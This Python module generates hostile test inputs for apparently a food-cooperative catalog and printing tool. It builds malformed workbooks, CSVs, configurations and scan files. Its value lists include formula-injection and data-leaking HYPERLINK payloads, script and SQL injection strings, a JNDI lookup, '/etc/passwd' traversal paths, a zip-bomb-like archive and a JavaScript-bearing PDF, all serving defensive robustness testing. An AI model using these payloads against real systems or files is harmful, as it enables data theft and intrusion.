"""The hostile inputs of ``bench/break_test.py``: catalogs, configurations, scan files, requests.

Each generator is deterministic for a given ``random.Random``; nothing here runs cagettes.
"""
from __future__ import annotations

import codecs
import datetime as dt
import io
import os
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np
import openpyxl
from openpyxl.utils.exceptions import IllegalCharacterError
from PIL import Image

# ----------------------------------------------------------------------------- cell values

BIG = [10**28, 10**28 + 0.5, 1e308, -1e308, 2**63, 2**64 + 5, "1e308", "9" * 28, "9" * 28 + ",99", "1e9999",
       "0,000000000000000000000000001"]
NEGATIVE = [-1, -0.01, "-2,50", "−3", 0, "0", "-0"]
NOT_NUMBERS = ["NaN", "nan", "inf", "-inf", "Infinity", "∞", "2,5,0", "2.50.1", "0x1F", "1_000", "2,50 €", "€",
               "deux", "١٢٣", "٢٫٥٠", "１２", "½"]
EMPTY = [None, "", " ", "\t", "\u00a0", "\u3000", "\u200b", "\ufeff", "\u2028"]
CONTROL = ["a_x0000_b", "sonnette\x07", "\x1b[31mrouge", "ligne\nsuivante", "retour\rchariot", "tab\tulé",
           "\x0bvt", "\x7fdel", "\x85nel"]
BIDI = ["\u202eevil.exe", "\u202dLTR", "\u2066iso\u2069", "a\u200fb", "\u061c", "abc\u202e123"]
LONG = ["x" * 300, "W" * 5000, "mot " * 500, "É" * 32767, "Hähnchenschenkelfleischpackungsetikettierung" * 3,
        "a" * 32767]
FORMULAS = ["=1+1", '=HYPERLINK("http://fuite.example/?d="&A1,"Cliquez")', "+1+1", "-1+1", "@SUM(A1:A9)",
            "=cmd|' /C calc'!A0", "\t=1+1", "=A1/0", '=IMPORTXML("http://x.example","//a")']
DATES = [dt.datetime(2026, 12, 5, 16, 30), dt.date(1900, 1, 1), dt.time(16, 30), dt.datetime(9999, 12, 31),
         dt.timedelta(hours=3)]
TYPES = [True, False, 3.5, 0.1 + 0.2, 7, -7]
PATHS = ["../../public/FUITE", "/etc/passwd", "..", ".", "a/b", "a\\b", "C:\\Windows", "CON", "NUL.txt", "~root",
         "%2e%2e%2f", "file:///etc/passwd", "x" * 240]
EMOJI = ["🥚🐔", "👩‍👩‍👧‍👦", "🇫🇷", "🏳️‍🌈", "e\u0301" * 40, "𝕏𝕐ℤ", "\U000e0041"]
SCRIPTS = ["دجاج مزرعة", "١٢٣٤", "עוף", "鸡肉", "Ωμέγα", "ꦗꦮ", "ᚠᚢᚦ", "ﷺ" * 10, "لا" * 60]
HTML = ["<script>alert(1)</script>", "{{ 7*7 }}", "{% raw %}", "'; DROP TABLE members; --", "&amp;&lt;", "%s%n%x",
        "${jndi:ldap://x}"]

FAMILIES: dict[str, list] = {
    "big": BIG, "negative": NEGATIVE, "not_number": NOT_NUMBERS, "empty": EMPTY, "control": CONTROL, "bidi": BIDI,
    "long": LONG, "formula": FORMULAS, "date": DATES, "type": TYPES, "path": PATHS, "emoji": EMOJI,
    "script": SCRIPTS, "html": HTML,
}

# ----------------------------------------------------------------------------- workbooks

SHEETS = ("sites", "fournisseurs", "produits", "membres")
KEYS = {"sites": "code", "fournisseurs": "code", "produits": "ref", "membres": "numero"}


def headers(book: openpyxl.Workbook, sheet: str) -> list[str]:
    return [c.value for c in book[sheet][1]]


def set_cell(book: openpyxl.Workbook, sheet: str, row: int, column: str, value) -> None:
    """``row`` counted from 0 among the data rows (spreadsheet row ``row + 2``)."""
    names = headers(book, sheet)
    book[sheet].cell(row=row + 2, column=names.index(column) + 1, value=value)


def data_rows(book: openpyxl.Workbook, sheet: str) -> int:
    return book[sheet].max_row - 1


def trim(book: openpyxl.Workbook, products: int = 8, members: int = 3, site: str = "FIVES") -> None:
    """The small catalog every case starts from: one site, a few products and members, so that
    a month prints in seconds."""
    sites = book["sites"]
    for row in range(sites.max_row, 1, -1):
        if sites.cell(row=row, column=1).value != site:
            sites.delete_rows(row)
    people = book["membres"]
    kept = 0
    for row in range(2, people.max_row + 1):
        if people.cell(row=row, column=4).value == site and kept < members:
            kept += 1
            continue
        people.cell(row=row, column=1).value = None  # emptied, then removed below
    for row in range(people.max_row, 1, -1):
        if people.cell(row=row, column=1).value is None:
            people.delete_rows(row)
    people.cell(row=people.max_row, column=5).value = "en"
    goods = book["produits"]
    if goods.max_row > products + 1:
        goods.delete_rows(products + 2, goods.max_row - products - 1)


Mutation = Callable[[openpyxl.Workbook], None]


@dataclass(frozen=True)
class WorkbookCase:
    name: str
    change: Mutation | None = None  # applied to the small workbook
    raw: Callable[[Path, bytes], bytes] | None = None  # the saved file's bytes rewritten
    print_it: bool = False  # worth printing when check accepts it


def cell(sheet: str, row: int, column: str, value) -> Mutation:
    return lambda book: set_cell(book, sheet, row, column, value)


def each(*changes: Mutation) -> Mutation:
    def apply(book):
        for change in changes:
            change(book)
    return apply


def zero_products(book):
    goods = book["produits"]
    goods.delete_rows(2, goods.max_row)


def zero_members(book):
    people = book["membres"]
    people.delete_rows(2, people.max_row)


def drop_sheet(name: str) -> Mutation:
    return lambda book: book.remove(book[name])


def rename_header(sheet: str, column: str, new) -> Mutation:
    def apply(book):
        book[sheet].cell(row=1, column=headers(book, sheet).index(column) + 1).value = new
    return apply


def duplicate_key(sheet: str) -> Mutation:
    def apply(book):
        set_cell(book, sheet, 1, KEYS[sheet], book[sheet].cell(row=2, column=1).value)
    return apply


def many_rows(sheet: str, count: int) -> Mutation:
    def apply(book):
        rows = list(book[sheet].iter_rows(min_row=2, values_only=True))
        for n in range(count):
            row = list(rows[n % len(rows)])
            row[0] = f"{n + 1:05d}" if sheet == "membres" else f"R{n}"
            book[sheet].append(row)
    return apply


def blank_header_row(book):
    book["produits"].insert_rows(1)


def title_rows(book):
    book["produits"].insert_rows(1, 3)
    book["produits"]["A1"] = "Catalogue de décembre"


def merged(book):
    book["produits"].merge_cells("B2:C3")


def extra_columns(book):
    sheet = book["produits"]
    sheet.cell(row=1, column=200, value="colonne_inconnue")
    sheet.cell(row=2, column=16384, value="XFD")


def ragged(book):
    book["produits"].cell(row=3, column=20, value="en trop")


def hidden_and_reordered(book):
    book["produits"].sheet_state = "hidden"
    book.move_sheet("produits", offset=-2)


def sheet_names_cased(book):
    book["produits"].title = " PRODUITS "
    book["membres"].title = "Membres"


def extra_sheet(book):
    book.create_sheet("produits (2)")
    book.create_sheet("=HYPERLINK(\"x\")")


def formula_header(book):
    rename_header("produits", "labo", '=HYPERLINK("http://fuite.example","labo")')(book)


def formula_no_value(book):
    set_cell(book, "produits", 0, "prix", "=2+0.4")
    set_cell(book, "produits", 1, "nom", '="Œufs"&" de plein air"')
    set_cell(book, "membres", 0, "site", '="FIV"&"ES"')


def many_picto(book):
    set_cell(book, "produits", 0, "picto", " ".join(f"1F{n:03X}" for n in range(0x345, 0x345 + 40)))


def raw_replace(old: bytes, new: bytes) -> Callable[[Path, bytes], bytes]:
    """The saved workbook with ``old`` replaced in every XML part (NUL bytes, broken XML...)."""
    def apply(path: Path, data: bytes) -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
            for item in src.infolist():
                dst.writestr(item, src.read(item.filename).replace(old, new))
        return out.getvalue()
    return apply


def raw_bytes(content: bytes) -> Callable[[Path, bytes], bytes]:
    return lambda path, data: content


def zip_bomb_like(path: Path, data: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            dst.writestr(item, src.read(item.filename))
        dst.writestr("xl/media/huge.bin", b"\0" * 60_000_000)
    return out.getvalue()


MARK = "ZZMARKZZ"  # a cell value replaced in the saved XML


def hand_workbooks() -> list[WorkbookCase]:
    p, m, s, f = "produits", "membres", "sites", "fournisseurs"
    long_word = "Cuissesdepouletfermierbiologiquedelafermeavicoleduévèle"
    cases = [
        WorkbookCase("sample (control)", None, print_it=True),
        WorkbookCase("long unwrappable product name", cell(p, 0, "nom", long_word), print_it=True),
        WorkbookCase("long unwrappable unit and English name",
                     each(cell(p, 1, "unite", "WWWWWWWWWWWWWWWWWWWWWW"), cell(p, 1, "nom_en", "M" * 40)), print_it=True),
        WorkbookCase("product name 5000 W", cell(p, 0, "nom", "W" * 5000)),
        WorkbookCase("member name 300 chars", cell(m, 0, "nom", "Wolfeschlegelsteinhausen" * 12), print_it=True),
        WorkbookCase("site code as path ../../public/FUITE",
                     each(cell(s, 0, "code", "../../public/FUITE"), cell(m, 0, "site", "../../public/FUITE")),
                     print_it=True),
        WorkbookCase("site code /etc", each(cell(s, 0, "code", "/etc"), *[cell(m, i, "site", "/etc") for i in range(3)])),
        WorkbookCase("site code 240 chars",
                     each(cell(s, 0, "code", "S" * 240), *[cell(m, i, "site", "S" * 240) for i in range(3)]),
                     print_it=True),
        WorkbookCase("product ref as path", cell(p, 0, "ref", "../../../x")),
        WorkbookCase("supplier code as path", each(cell(f, 0, "code", "../FUITE"), cell(p, 0, "fournisseur", "../FUITE"))),
        WorkbookCase("formula =HYPERLINK in product name (text)",
                     cell(p, 0, "nom", '=HYPERLINK("http://fuite.example/?d="&A1,"Cliquez")')),
        WorkbookCase("formula injection in member name", cell(m, 0, "nom", "=cmd|' /C calc'!A0"), print_it=True),
        WorkbookCase("formula =HYPERLINK in xlsx header", formula_header, print_it=True),
        WorkbookCase("formula cells without saved values", formula_no_value),
        WorkbookCase("price 28 digits", cell(p, 0, "prix", "9" * 28)),
        WorkbookCase("price 10^28 number", cell(p, 0, "prix", 10**28)),
        WorkbookCase("price 1e308", cell(p, 0, "prix", 1e308)),
        WorkbookCase("price text 1e308", cell(p, 0, "prix", "1e308")),
        WorkbookCase("price NaN text", cell(p, 0, "prix", "NaN")),
        WorkbookCase("price inf text", cell(p, 0, "prix", "inf")),
        WorkbookCase("price negative", cell(p, 0, "prix", -2.4)),
        WorkbookCase("price 0", cell(p, 0, "prix", 0), print_it=True),
        WorkbookCase("price 0.001", cell(p, 0, "prix", 0.001)),
        WorkbookCase("price Arabic-Indic digits", cell(p, 0, "prix", "٢٫٤٠"), print_it=True),
        WorkbookCase("minimum_commande 1e308", cell(f, 0, "minimum_commande", 1e308)),
        WorkbookCase("max_par_membre 10^20", cell(p, 0, "max_par_membre", 10**20)),
        WorkbookCase("max_par_membre 2.5", cell(p, 0, "max_par_membre", 2.5)),
        WorkbookCase("carton 10^30", cell(p, 0, "carton", "1" + "0" * 30), print_it=True),
        WorkbookCase("carton 1e308", cell(p, 0, "carton", 1e308), print_it=True),
        WorkbookCase("picto with 40 codes", many_picto, print_it=True),
        WorkbookCase("picto not hex", cell(p, 0, "picto", "ZZZZ")),
        WorkbookCase("picto path", cell(p, 0, "picto", "../../../../etc/passwd")),
        WorkbookCase("picto huge code point", cell(p, 0, "picto", "FFFFFFFF")),
        WorkbookCase("picto surrogate", cell(p, 0, "picto", "D800")),
        WorkbookCase("RTL override in product name", cell(p, 0, "nom", "\u202eduits frais"), print_it=True),
        WorkbookCase("RTL override in member number", cell(m, 0, "numero", "\u202e0001")),
        WorkbookCase("Arabic-Indic member number", cell(m, 0, "numero", "٠٠٠١")),
        WorkbookCase("NUL byte in product name (raw XML)", each(cell(p, 0, "nom", "Œufs" + MARK)),
                     raw=raw_replace(MARK.encode(), b"\x00")),
        WorkbookCase("NUL byte in site code (raw XML)", each(cell(s, 0, "code", "FIV" + MARK)),
                     raw=raw_replace(MARK.encode(), b"\x00")),
        WorkbookCase("_x0000_ escape in name", cell(p, 0, "nom", "Œufs_x0000_")),
        WorkbookCase("zero-width only name", cell(p, 0, "nom", "\u200b\u200b"), print_it=True),
        WorkbookCase("whitespace-only required cell", cell(p, 0, "unite", "\u00a0\u3000")),
        WorkbookCase("emoji ZWJ in names", each(cell(p, 0, "nom", "👩‍👩‍👧‍👦 Œufs 🥚"), cell(m, 0, "prenom", "🏳️‍🌈")),
                     print_it=True),
        WorkbookCase("0 products", zero_products, print_it=True),
        WorkbookCase("0 members", zero_members),
        WorkbookCase("duplicate product refs", duplicate_key(p)),
        WorkbookCase("duplicate member numbers", duplicate_key(m)),
        WorkbookCase("sheet produits missing", drop_sheet(p)),
        WorkbookCase("sheet names in other case", sheet_names_cased),
        WorkbookCase("hidden, reordered sheet", hidden_and_reordered),
        WorkbookCase("extra sheets with formula names", extra_sheet),
        WorkbookCase("blank row above headers", blank_header_row),
        WorkbookCase("title rows above headers", title_rows),
        WorkbookCase("merged cells", merged),
        WorkbookCase("column XFD filled", extra_columns),
        WorkbookCase("ragged row", ragged),
        WorkbookCase("header renamed to number", rename_header(p, "prix", 42)),
        WorkbookCase("header duplicated", rename_header(p, "labo", "nom")),
        WorkbookCase("5000 members", many_rows(m, 5000)),
        WorkbookCase("date in time cell", each(cell(s, 0, "ouverture", dt.datetime(2026, 12, 1, 16, 30)),
                                                cell(s, 0, "fermeture", dt.time(18, 30)))),
        WorkbookCase("jour as number", cell(s, 0, "jour", 2)),
        WorkbookCase("bool as member language", cell(m, 0, "langue", True)),
        WorkbookCase("catalog file: zero bytes", raw=raw_bytes(b"")),
        WorkbookCase("catalog file: text", raw=raw_bytes(b"code,nom\nA,B\n")),
        WorkbookCase("catalog file: truncated xlsx", raw=lambda path, data: data[: len(data) // 2]),
        WorkbookCase("catalog file: zip without workbook", raw=lambda path, data: _zip({"a.txt": b"x"})),
        WorkbookCase("catalog file: broken XML", raw=raw_replace(b"</sheetData>", b"</sheetDat")),
        WorkbookCase("catalog file: 60 MB of zeros inside", raw=zip_bomb_like),
    ]
    return cases


def _zip(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def put(target, value, marks: dict[str, bytes]) -> None:
    """``target.value = value``; a text openpyxl refuses (control characters XML cannot hold)
    is written as a marker, replaced by its raw bytes in the saved file (see :func:`raw_marks`)."""
    try:
        target.value = value
    except IllegalCharacterError:
        marker = f"ZZMARK{len(marks)}ZZ"
        marks[marker] = value.encode()
        target.value = marker


def raw_marks(marks: dict[str, bytes]) -> Callable[[Path, bytes], bytes]:
    def apply(path: Path, data: bytes) -> bytes:
        for marker, raw in marks.items():
            data = raw_replace(marker.encode(), raw)(path, data)
        return data
    return apply


def random_workbook(rng: random.Random, book: openpyxl.Workbook, marks: dict[str, bytes]) -> str:
    """1 to 3 random cells of random sheets set to hostile values; returns what was done."""
    done = []
    for _ in range(rng.choice((1, 1, 2, 3))):
        sheet = rng.choice(SHEETS)
        family = rng.choice(sorted(FAMILIES) + ["duplicate"])
        names = headers(book, sheet)
        column = rng.choice(names)
        rows = data_rows(book, sheet)
        row = rng.randrange(-1, max(rows, 1))  # -1: the header itself
        if family == "duplicate" and rows >= 2:
            value = book[sheet].cell(row=2, column=names.index(column) + 1).value
            row = max(row, 1)
        else:
            value = rng.choice(FAMILIES.get(family, EMPTY))
        if row < 0:
            put(book[sheet].cell(row=1, column=names.index(column) + 1), value, marks)
            done.append(f"{sheet}!header {column}={value!r:.40}")
        else:
            put(book[sheet].cell(row=row + 2, column=names.index(column) + 1), value, marks)
            done.append(f"{sheet}!{column}{row + 2}={value!r:.40}")
    return "; ".join(done)


# ----------------------------------------------------------------------------- CSV folders

@dataclass(frozen=True)
class CsvCase:
    name: str
    change: Callable[[dict[str, bytes]], dict[str, bytes | None]]  # sheet -> bytes (None: removed)
    special: str = ""  # "fifo": produits.csv is a FIFO; "dir": a folder; "link": a symlink to a file


def _text(files: dict[str, bytes], sheet: str) -> str:
    return files[sheet].decode("utf-8")


def _edit(sheet: str, edit: Callable[[str], str], encode: Callable[[str], bytes] = lambda t: t.encode()) -> Callable:
    return lambda files: {**files, sheet: encode(edit(_text(files, sheet)))}


def _all(encode: Callable[[str], bytes]) -> Callable:
    return lambda files: {k: encode(v.decode("utf-8")) for k, v in files.items()}


def _field(sheet: str, line: int, column: int, value: str) -> Callable[[str], str]:
    """Line ``line`` (0: header) of a simple CSV with its ``column``-th field set (quoted)."""
    def edit(text: str) -> str:
        import csv
        rows = list(csv.reader(io.StringIO(text)))
        rows[line][column] = value
        out = io.StringIO()
        csv.writer(out, lineterminator="\n").writerows(rows)
        return out.getvalue()
    return edit


def csv_cases() -> list[CsvCase]:
    p = "produits"
    return [
        CsvCase("sample csv (control)", lambda f: f),
        CsvCase("CR-only line endings", _all(lambda t: t.replace("\n", "\r").encode())),
        CsvCase("CRLF endings", _all(lambda t: t.replace("\n", "\r\n").encode())),
        CsvCase("mixed CR/LF/CRLF", _edit(p, lambda t: "".join(line + ("\r", "\n", "\r\n")[i % 3]
                                                                for i, line in enumerate(t.split("\n"))))),
        CsvCase("UTF-16 LE with BOM", _all(lambda t: codecs.BOM_UTF16_LE + t.encode("utf-16-le"))),
        CsvCase("UTF-16 BE with BOM, tabs", _all(lambda t: codecs.BOM_UTF16_BE + t.replace(",", "\t").encode("utf-16-be"))),
        CsvCase("UTF-16 LE without BOM", _all(lambda t: t.encode("utf-16-le"))),
        CsvCase("UTF-8 with BOM", _all(lambda t: codecs.BOM_UTF8 + t.encode())),
        CsvCase("Windows-1252", _all(lambda t: t.encode("cp1252", "replace"))),
        CsvCase("UTF-32", _all(lambda t: t.encode("utf-32"))),
        CsvCase("semicolon separators", _all(lambda t: t.replace(",", ";").encode())),
        CsvCase("binary file as produits.csv", lambda f: {**f, p: bytes(range(256)) * 64}),
        CsvCase("xlsx renamed produits.csv", lambda f: {**f, p: _zip({"xl/workbook.xml": b"<x/>" * 100})}),
        CsvCase("128 KiB field", _edit(p, _field(p, 1, 1, "x" * 131_073))),
        CsvCase("unclosed quote", _edit(p, lambda t: t.replace("Œufs de plein air", '"Œufs de plein air', 1))),
        CsvCase("NUL bytes in product name", _edit(p, lambda t: t.replace("Œufs", "Œ\x00ufs", 1))),
        CsvCase("NUL bytes everywhere", _edit(p, lambda t: t.replace(",", ",\x00"))),
        CsvCase("RTL override and Arabic-Indic digits", _edit(p, lambda t: t.replace('"2,40"', '"٢٫٤٠"', 1)
                                                              .replace("Œufs", "\u202eŒufs", 1))),
        CsvCase("28-digit price", _edit(p, lambda t: t.replace('"2,40"', "9" * 28, 1))),
        CsvCase("price 1e308", _edit(p, lambda t: t.replace('"2,40"', "1e308", 1))),
        CsvCase("empty produits.csv", lambda f: {**f, p: b""}),
        CsvCase("header only (0 products)", _edit(p, lambda t: t.split("\n", 1)[0] + "\n")),
        CsvCase("produits.csv missing", lambda f: {**f, p: None}),
        CsvCase("formula in header", _edit(p, lambda t: t.replace("labo", '"=HYPERLINK(""http://x"",""labo"")"', 1))),
        CsvCase("every field quoted, blank lines", _edit(p, lambda t: "\n\n".join(t.split("\n")))),
        CsvCase("20000 member rows", _edit("membres", lambda t: t + "".join(
            f"{n:05d},Prénom,Nom,FIVES,fr,non,\n" for n in range(100, 20100)))),
        CsvCase("produits.csv is a folder", lambda f: {**f, p: None}, special="dir"),
        CsvCase("produits.csv is a symlink to a file", lambda f: f, special="link"),
        CsvCase("produits.csv is a FIFO", lambda f: {**f, p: None}, special="fifo"),
    ]


# ----------------------------------------------------------------------------- configurations

@dataclass(frozen=True)
class ConfigCase:
    name: str
    change: Callable[[str, Path], str | bytes]  # (toml text, sandbox folder) -> new content
    open_month: bool = False  # also open (and print posters) when check accepts it


def set_key(text: str, section: str, key: str, value: str) -> str:
    """``key = value`` inside ``[section]`` ("" for the top level), replacing the line."""
    start = 0 if not section else text.index(f"[{section}]")
    match = re.compile(rf"^{re.escape(key)} = .*$", re.M).search(text, start)
    return text[:match.start()] + f"{key} = {value}" + text[match.end():]


def key(section: str, name: str, value: str, open_month: bool = False) -> ConfigCase:
    return ConfigCase(f"[{section}] {name} = {value[:40]}", lambda t, _: set_key(t, section, name, value), open_month)


def config_cases() -> list[ConfigCase]:
    def outside(t: str, sandbox: Path) -> str:
        return set_key(t, "sortie", "dossier", f'"{sandbox / "existing"}"')

    def outside_file(t: str, sandbox: Path) -> str:
        return set_key(t, "sortie", "dossier", f'"{sandbox / "file.txt"}"')

    def catalog_outside(t: str, sandbox: Path) -> str:
        return set_key(t, "catalogue", "chemin", f'"{sandbox / "existing"}"')

    return [
        ConfigCase("sample (control)", lambda t, _: t, open_month=True),
        ConfigCase("empty file", lambda t, _: ""),
        ConfigCase("only comments", lambda t, _: "# rien\n"),
        ConfigCase("binary garbage", lambda t, _: bytes(range(256)) * 8),
        ConfigCase("UTF-16 with BOM", lambda t, _: codecs.BOM_UTF16_LE + t.encode("utf-16-le")),
        ConfigCase("Latin-1 bytes", lambda t, _: t.encode("latin-1", "replace")),
        ConfigCase("UTF-8 BOM", lambda t, _: codecs.BOM_UTF8 + t.encode()),
        ConfigCase("NUL byte", lambda t, _: t.replace("langue", "lan\x00gue", 1)),
        ConfigCase("CR-only endings", lambda t, _: t.replace("\n", "\r")),
        ConfigCase("unclosed string", lambda t, _: set_key(t, "association", "nom", '"Cagette')),
        ConfigCase("unclosed table", lambda t, _: t.replace("[calendrier]", "[calendrier", 1)),
        ConfigCase("duplicate key", lambda t, _: t.replace("jour_bons = 5", "jour_bons = 5\njour_bons = 6", 1)),
        ConfigCase("duplicate table", lambda t, _: t + "\n[calendrier]\njour_bons = 3\n"),
        ConfigCase("deeply nested array", lambda t, _: t + "\nprofond = " + "[" * 5000 + "]" * 5000 + "\n"),
        ConfigCase("1 MB string", lambda t, _: set_key(t, "association", "nom", '"' + "x" * 1_000_000 + '"')),
        key("", "langue", "1"), key("", "langue", '"xx"'), key("", "langue", '"FR"'), key("", "langue", '["fr"]'),
        key("calendrier", "jour_bons", '"5"'), key("calendrier", "jour_bons", "5.5"),
        key("calendrier", "jour_bons", "true"), key("calendrier", "jour_bons", "-1"),
        key("calendrier", "jour_bons", "0"), key("calendrier", "jour_bons", "29"),
        key("calendrier", "jour_bons", "9223372036854775807"), key("calendrier", "jour_bons", "inf"),
        key("calendrier", "jour_bons", "nan"), key("calendrier", "jour_limite", "6"),
        key("calendrier", "delai_commande_jours", "1e308"), key("calendrier", "delai_livraison_jours", "-9"),
        key("formulaires", "bons_libres_par_site", "1000000000"), key("formulaires", "bons_libres_par_site", "-1"),
        key("association", "nom", '"\\u0000\\u202e\\u0007"'), key("association", "nom", '""'),
        key("association", "email", '"pas-un-email"'), key("site_public", "url", '"javascript:alert(1)"'),
        key("site_public", "url", '"http://' + "a" * 5000 + '"'),
        key("securite", "secret", '""'), key("securite", "secret", '"court"'),
        key("securite", "secret", '"' + "s" * 100_000 + '"'),
        ConfigCase("unknown key and table", lambda t, _: t.replace("[association]", "[association]\nnom2 = 1", 1)
                   + "\n[inconnu]\nx = 1\n"),
        key("catalogue", "chemin", '"/etc/passwd"'), key("catalogue", "chemin", '"."'),
        key("catalogue", "chemin", '"cagettes.toml"'), key("catalogue", "chemin", '"absent.xlsx"'),
        ConfigCase("catalogue.chemin: a folder outside", catalog_outside),
        key("sortie", "dossier", '"cagettes.toml"', open_month=True),
        ConfigCase("sortie.dossier: a file outside", outside_file, open_month=True),
        ConfigCase("sortie.dossier: an existing folder outside (mode kept?)", outside, open_month=True),
        key("sortie", "dossier", '"/proc"', open_month=True),
        key("base", "url", '"sqlite:////nonexistent/dir/x.db"'), key("base", "url", '"mysql://u@localhost/x"'),
        key("base", "url", '"pas une url"'), key("base", "url", '"sqlite:///templates"'),
        key("base", "url", '"postgresql://u@/db?host=/nonexistent"'),
        key("base", "url", '"sqlite:///cagettes.toml"'),
    ]


# ----------------------------------------------------------------------------- scan files

@dataclass
class ScanFile:
    name: bytes  # file name (bytes: not always UTF-8)
    pages: int = 1  # rows expected (pages, or 1 for a file that gives no page)
    note: str = ""
    group: str = "bad"  # "special" (links, FIFO...), "bad", "real"
    needs_row: bool = True  # False for what is not a file (a folder)


def png(array: np.ndarray, **options) -> bytes:
    out = io.BytesIO()
    Image.fromarray(array).save(out, "PNG", **options)
    return out.getvalue()


def pil_bytes(image: Image.Image, fmt: str, **options) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **options)
    return out.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_header_only(width: int, height: int, bits: int = 8, colour: int = 0) -> bytes:
    """A PNG whose header claims a size its data does not have."""
    header = struct.pack(">IIBBBBB", width, height, bits, colour, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", zlib.compress(b"\0" * 1000))
            + png_chunk(b"IEND", b""))


def jpeg_huge_header(good_jpeg: bytes, width: int, height: int) -> bytes:
    """A real JPEG whose SOF marker claims another size."""
    data = bytearray(good_jpeg)
    for marker in (b"\xff\xc0", b"\xff\xc2"):
        at = data.find(marker)
        if at > 0:
            data[at + 5:at + 9] = struct.pack(">HH", height, width)
            break
    return bytes(data)


def tiff_huge_header(good_tiff: bytes) -> bytes:
    """A real TIFF whose first directory claims 2^31 - 1 pixels each way (LONG ImageWidth/Length)."""
    data = bytearray(good_tiff)
    little = data[:2] == b"II"
    order = "<" if little else ">"
    (offset,) = struct.unpack(order + "I", data[4:8])
    (count,) = struct.unpack(order + "H", data[offset:offset + 2])
    for n in range(count):
        at = offset + 2 + 12 * n
        tag, kind = struct.unpack(order + "HH", data[at:at + 4])
        if tag in (256, 257):  # ImageWidth, ImageLength
            data[at + 2:at + 12] = struct.pack(order + "HII", 4, 1, 2**31 - 1)
    return bytes(data)


def pdf_with_box(width_pt: float, height_pt: float, pages: int = 1) -> bytes:
    import pikepdf

    pdf = pikepdf.new()
    for _ in range(pages):
        page = pdf.add_blank_page(page_size=(595, 842))
        page.obj.MediaBox = pikepdf.Array([0, 0, width_pt, height_pt])
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def encrypted_pdf(page: np.ndarray) -> bytes:
    import pikepdf

    plain = pil_bytes(Image.fromarray(page), "PDF", resolution=150)
    pdf = pikepdf.open(io.BytesIO(plain))
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(owner="o", user="u"))
    return out.getvalue()


def bad_scan_files(folder: Path, page: np.ndarray, rng: random.Random) -> list[ScanFile]:
    """About 70 bad files written into ``folder``; ``page`` is a real printed page (grey)."""
    files: list[ScanFile] = []
    good_png = png(page)
    good_jpeg = pil_bytes(Image.fromarray(page), "JPEG", quality=85)
    good_tiff = pil_bytes(Image.fromarray(page), "TIFF", compression="tiff_lzw")
    good_pdf = pil_bytes(Image.fromarray(page), "PDF", resolution=150)
    h, w = page.shape

    def put(name: str | bytes, data: bytes, pages: int = 1, note: str = "") -> None:
        raw = name if isinstance(name, bytes) else name.encode()
        (folder / os.fsdecode(raw)).write_bytes(data)
        files.append(ScanFile(raw, pages, note or (name if isinstance(name, str) else repr(name))))

    noise = np.random.default_rng(rng.randrange(2**32))
    for suffix in ("jpg", "png", "pdf", "tif"):
        put(f"zero-bytes.{suffix}", b"")
    for fraction in (0.5, 0.1):
        put(f"truncated-{int(fraction * 100)}.jpg", good_jpeg[: int(len(good_jpeg) * fraction)])
        put(f"truncated-{int(fraction * 100)}.png", good_png[: int(len(good_png) * fraction)])
        put(f"truncated-{int(fraction * 100)}.pdf", good_pdf[: int(len(good_pdf) * fraction)])
        put(f"truncated-{int(fraction * 100)}.tif", good_tiff[: int(len(good_tiff) * fraction)])
    put("one-byte.jpg", good_jpeg[:1])
    put("header-only.jpg", good_jpeg[:600])
    middle = bytearray(good_jpeg)
    middle[len(middle) // 2: len(middle) // 2 + 2000] = noise.integers(0, 256, 2000, dtype=np.uint8).tobytes()
    put("corrupt-middle.jpg", bytes(middle))
    middle = bytearray(good_png)
    middle[len(middle) // 2: len(middle) // 2 + 2000] = b"\0" * 2000
    put("corrupt-middle.png", bytes(middle))
    put("png-named.jpg", png(np.ascontiguousarray(page[::-1])))
    put("jpeg-named.png", pil_bytes(Image.fromarray(np.ascontiguousarray(page[:, ::-1])), "JPEG", quality=80))
    put("pdf-named.tif", pil_bytes(Image.fromarray(np.ascontiguousarray(page[::-1, ::-1])), "PDF", resolution=150))
    put("text-named.pdf", b"Ceci n'est pas un PDF.\n" * 20)
    put("text-named.jpg", b"hello\n")
    put("html-named.png", b"<!DOCTYPE html><html><body>scan</body></html>")
    put("zip-named.jpg", _zip({"a.txt": b"x" * 100}))
    put("notes.txt", b"une note laissee dans la boite\n")
    put("document.docx", _zip({"word/document.xml": b"<w/>"}))
    put("photo.heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 100)
    put("svg-named.png", b'<svg xmlns="http://www.w3.org/2000/svg" width="100000" height="100000"/>')
    put("huge-header-100000.png", png_header_only(100_000, 100_000))
    put("huge-header-65500.jpg", jpeg_huge_header(good_jpeg, 65_500, 65_500))
    put("huge-header-2^31.png", png_header_only(2**31 - 1, 2**31 - 1, 16, 6))
    put("zero-size-header.png", png_header_only(0, 0))
    put("huge-mediabox.pdf", pdf_with_box(14_400, 14_400))
    put("tiny-mediabox.pdf", pdf_with_box(1, 1))
    put("zero-mediabox.pdf", pdf_with_box(0, 0))
    put("blank-40-pages.pdf", pdf_with_box(595, 842, 40), pages=1,
        note="blank-40-pages.pdf (40 identical pages: one row, 39 counted as duplicates)")
    put("encrypted.pdf", encrypted_pdf(page))
    put("no-pages.pdf", pdf_with_box(595, 842, 0))
    put("a5-blank.pdf", pdf_with_box(420, 595))
    put("javascript.pdf", pdf_with_box(590, 840).replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S "
                                                           b"/JavaScript /JS (app.alert(1)) >>", 1))
    put("zero-size-header.jpg", jpeg_huge_header(good_jpeg, 0, 0))
